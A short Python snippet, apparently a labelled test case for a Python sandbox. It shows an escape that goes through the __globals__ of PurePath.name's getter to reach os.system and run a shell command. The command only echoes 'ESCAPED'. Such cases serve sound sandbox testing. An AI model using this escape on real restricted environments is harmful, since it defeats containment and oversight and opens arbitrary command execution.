# kind: function-globals
# effect: prints ESCAPED
from pathlib import PurePath

space = PurePath.name.fget.__globals__
space["sys"].modules["os"].system("echo ESCAPED")
